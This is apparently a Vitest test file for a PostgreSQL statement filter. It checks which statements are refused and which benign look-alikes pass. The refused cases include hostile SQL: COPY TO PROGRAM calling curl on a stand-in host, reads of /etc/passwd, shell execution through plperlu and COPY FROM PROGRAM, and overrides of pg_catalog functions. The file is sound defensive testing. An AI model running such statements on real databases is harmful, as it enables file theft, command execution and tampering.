import { beforeAll, expect, test } from "vitest";
import { readyToRefuse, refusal } from "../../src/probe/refusals.ts";

beforeAll(readyToRefuse);

test.each([
  "copy users to program 'curl http://evil.example'",
  "copy users from '/etc/passwd'",
  "COPY users (id) FROM STDIN",
  "alter system set shared_preload_libraries = 'x'",
  "create database other",
  "alter database postgres set session_replication_role = replica",
  "create tablespace t location '/tmp'",
  "create subscription s connection 'host=x' publication p",
  "create server s foreign data wrapper postgres_fdw",
  "create foreign table f (id int) server s",
  "import foreign schema x from server s into public",
  "load 'plpgsql'",
  "select pg_read_file('/etc/passwd')",
  "select * from pg_ls_dir('/')",
  "insert into t select lo_import('/etc/passwd')",
  "select lo_export(1, '/tmp/x')",
  "select * from dblink('host=x', 'select 1') as t (id int)",
  "select pg_sleep(10)",
  "select pg_catalog . pg_terminate_backend(1)",
  "set session_replication_role = replica",
  "set local max_stack_depth = '100MB'",
  "select set_config('session_replication_role', 'replica', false)",
  "create function f() returns int language plpython3u as 'return 1'",
  "do language plperlu $$ system('id') $$",
  "do $$ begin perform pg_read_file('x'); end $$",
  "do $$ begin execute 'copy t from program ''id'''; end $$",
  "create function f() returns void language plpgsql as $$ begin copy t to program 'id'; end $$",
  "do $$ begin set session_replication_role = replica; end $$",
  "create function pg_catalog.format_type(oid, int) returns text language sql as 'select null'",
  "create or replace function pg_catalog.md5(text) returns text language sql as 'select null'",
  "create operator pg_catalog.!~ (leftarg = name, rightarg = name, function = no)",
  "alter function public.format_type(oid, int) set schema pg_catalog",
  "alter role postgres set session_replication_role = replica",
])("refused: %s", (sql) => {
  expect(refusal(sql)).toMatch(/\w/);
});

test.each([
  "create table copy (program text, load int, language text)",
  "set statement_timeout = '5s'",
  "set lock_timeout = '5s'",
  "select pg_catalog.set_config('search_path', '', false)",
  "select setval('users_id_seq', 5)",
  "create extension dblink",
  "create function f() returns int language plpgsql as $$ begin perform pg_sleep(1); return 1; end $$",
  "comment on table t is 'see pg_read_file() and COPY t FROM PROGRAM'",
  "insert into languages (language) values ('to copy from program')",
  "update t set system = 'alter system'",
  "drop table databases",
  "create publication p for all tables",
  "this is no SQL at all, copy",
  "create function app.format_type(oid, int) returns text language sql as 'select pg_catalog.format_type($1, $2)'",
  "alter table pg_catalog_entries set schema archive",
  "alter role app set search_path = app, public",
])("not refused: %s", (sql) => {
  expect(refusal(sql)).toBeUndefined();
});
